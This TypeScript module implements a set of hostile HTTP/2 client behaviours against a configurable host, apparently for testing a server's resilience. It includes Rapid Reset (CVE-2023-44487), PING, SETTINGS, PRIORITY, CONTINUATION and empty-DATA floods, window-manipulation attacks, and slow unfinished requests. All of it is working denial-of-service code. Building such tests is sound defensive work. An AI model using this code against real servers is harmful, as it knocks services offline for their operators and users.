/**
 * What hostile clients do with HTTP/2: floods, closed windows, streams that never end. Each keeps doing
 * so until it is told to stop or the connection ends. Does I/O.
 *
 * @module
 */
import { encodeFields, encodeRawFrame } from "./raw_http2.ts";
import {
  encodeHead,
  encodeSetting,
  FLAG,
  FRAME,
  pseudoFields,
  type RudeHttp2,
} from "./rude_http2.ts";

/** Whom to abuse. */
export interface AbuseTarget {
  /** A host that serves `/` shortly, `/endless` without end, and takes bodies. */
  readonly host: string;
  /** Says when it is enough. */
  readonly signal: AbortSignal;
}

/** One abuse. It ends, without failing, when told so or when the connection is cut. */
export interface Http2Abuse {
  readonly what: string;
  /** Bytes of each answer that may come unasked; default 65,535. */
  readonly windowBytes?: number;
  readonly play: (client: RudeHttp2, target: AbuseTarget) => Promise<void>;
}

/** Frames that are sent in one write. */
const AT_ONCE = 1_000;

/** More than the runtime lets one connection have open. */
export const STREAMS = 300;

const NO_STREAM = { flags: 0, stream: 0 };

/** Sends the same again and again, as fast as it is taken. */
function flood(makeFrames: (client: RudeHttp2, host: string) => Uint8Array): Http2Abuse["play"] {
  return (client, { host, signal }) =>
    untilCut(client, signal, async () => {
      await client.write(makeFrames(client, host));
      // The writes of a flood would leave the client's own reading no turn.
      await pause(0);
    });
}

/** Opens many streams and leaves them as they are. */
function hold(path: string, options: { readonly method?: string } = {}): Http2Abuse["play"] {
  const { method = "GET" } = options;
  return async (client, { host, signal }) => {
    for (let count = 0; count < STREAMS && !client.seen.isClosed; count++) {
      await client.open(pseudoFields(host, path, method), method === "GET").catch(() => {});
    }
    await untilCut(client, signal, () => pause(20));
  };
}

const PINGS = repeat(encodeRawFrame({ type: FRAME.ping, ...NO_STREAM }, new Uint8Array(8)));
const SETTINGS = repeat(encodeRawFrame({ type: FRAME.settings, ...NO_STREAM }));
const PRIORITIES = repeat(
  encodeRawFrame({ type: FRAME.priority, flags: 0, stream: 1 }, [0, 0, 0, 0, 1]),
);
const UNKNOWN = repeat(encodeRawFrame({ type: 0xbe, flags: 0, stream: 0 }, new Uint8Array(8)));

/** Every abuse, by a name that reads well in a test. */
export const HTTP2_ABUSES = {
  resets_at_once: {
    what: "1,000 requests at once, each reset at once (CVE-2023-44487)",
    play: flood((client, host) => joined(AT_ONCE, () => openAndReset(client, host))),
  },
  resets_now_and_then: {
    what: "a request every 5 ms, each reset at once",
    play: (client, { host, signal }) =>
      untilCut(client, signal, async () => {
        await client.write(openAndReset(client, host));
        await pause(5);
      }),
  },
  pings: { what: "PING without end (CVE-2019-9512)", play: flood(() => PINGS) },
  settings: { what: "SETTINGS without end (CVE-2019-9515)", play: flood(() => SETTINGS) },
  priorities: { what: "PRIORITY without end (CVE-2019-9513)", play: flood(() => PRIORITIES) },
  unknown_frames: { what: "frames of an unknown type without end", play: flood(() => UNKNOWN) },
  continuations: {
    what: "CONTINUATION without end (CVE-2024-27316)",
    play: async (client, { host, signal }) => {
      const stream = client.takeStream();
      const fields = encodeFields(pseudoFields(host));
      await client.frame({ type: FRAME.headers, flags: FLAG.endStream, stream }, fields);
      const more = encodeFields([["x", "y".repeat(1_000)]]);
      const frame = encodeRawFrame({ type: FRAME.continuation, flags: 0, stream }, more);
      await untilCut(client, signal, () => client.write(frame));
    },
  },
  empty_data: {
    what: "empty DATA without end (CVE-2019-9518)",
    play: async (client, target) => {
      const stream = await client.open(pseudoFields(target.host, "/body", "POST"), false);
      const frames = repeat(encodeRawFrame({ type: FRAME.data, flags: 0, stream }));
      await flood(() => frames)(client, target);
    },
  },
  closed_windows: {
    what: `${STREAMS} large answers of which nothing is taken (CVE-2019-9517)`,
    windowBytes: 0,
    play: hold("/endless"),
  },
  bytewise_windows: {
    what: "a large answer that is taken byte by byte (CVE-2019-9511)",
    windowBytes: 0,
    play: async (client, { host, signal }) => {
      const stream = await client.open(pseudoFields(host, "/endless"));
      const more = encodeSetting(0, 1).slice(2);
      const byte = encodeRawFrame({ type: FRAME.windowUpdate, flags: 0, stream }, more);
      const bytes = repeat(byte, 50);
      await client.openWindow(0, 0x3fff_ffff);
      await untilCut(client, signal, async () => {
        await client.write(bytes);
        await pause(1);
      });
    },
  },
  swinging_windows: {
    what: `SETTINGS that open and close the windows of ${STREAMS} streams, without end`,
    windowBytes: 0,
    play: async (client, target) => {
      for (let count = 0; count < STREAMS; count++) {
        await client.open(pseudoFields(target.host, "/endless"));
      }
      const swing = repeat(
        Uint8Array.from([1, 0].flatMap((bytes) => [
          ...encodeRawFrame({ type: FRAME.settings, ...NO_STREAM }, encodeSetting(4, bytes)),
        ])),
        50,
      );
      await flood(() => swing)(client, target);
    },
  },
  unfinished_requests: {
    what: `${STREAMS} requests whose bodies never come`,
    play: hold("/body", { method: "POST" }),
  },
  unfinished_head: {
    what: "a field section that never ends",
    play: async (client, { host, signal }) => {
      const stream = client.takeStream();
      const fields = encodeFields(pseudoFields(host));
      await client.frame({ type: FRAME.headers, flags: FLAG.endStream, stream }, fields);
      await untilCut(client, signal, () => pause(20));
    },
  },
  silence: {
    what: "nothing but the preface",
    play: (client, { signal }) => untilCut(client, signal, () => pause(20)),
  },
} as const satisfies Record<string, Http2Abuse>;

/** The name of an abuse. */
export type Http2AbuseName = keyof typeof HTTP2_ABUSES;

function openAndReset(client: RudeHttp2, host: string): Uint8Array {
  const stream = client.takeStream();
  const cancel = [0, 0, 0, 8];
  return concat([
    encodeHead(stream, pseudoFields(host)),
    encodeRawFrame({ type: FRAME.reset, flags: 0, stream }, cancel),
  ]);
}

async function untilCut(
  client: RudeHttp2,
  signal: AbortSignal,
  turn: () => Promise<void>,
): Promise<void> {
  try {
    while (!signal.aborted && !client.seen.isClosed) await turn();
  } catch {
    // It has been cut while it wrote, which the test sees by itself.
  }
}

function joined(count: number, make: () => Uint8Array): Uint8Array {
  return concat(Array.from({ length: count }, make));
}

function repeat(frame: Uint8Array, count = AT_ONCE): Uint8Array {
  return joined(count, () => frame);
}

function concat(pieces: readonly Uint8Array[]): Uint8Array {
  const whole = new Uint8Array(pieces.reduce((bytes, piece) => bytes + piece.length, 0));
  let at = 0;
  for (const piece of pieces) {
    whole.set(piece, at);
    at += piece.length;
  }
  return whole;
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
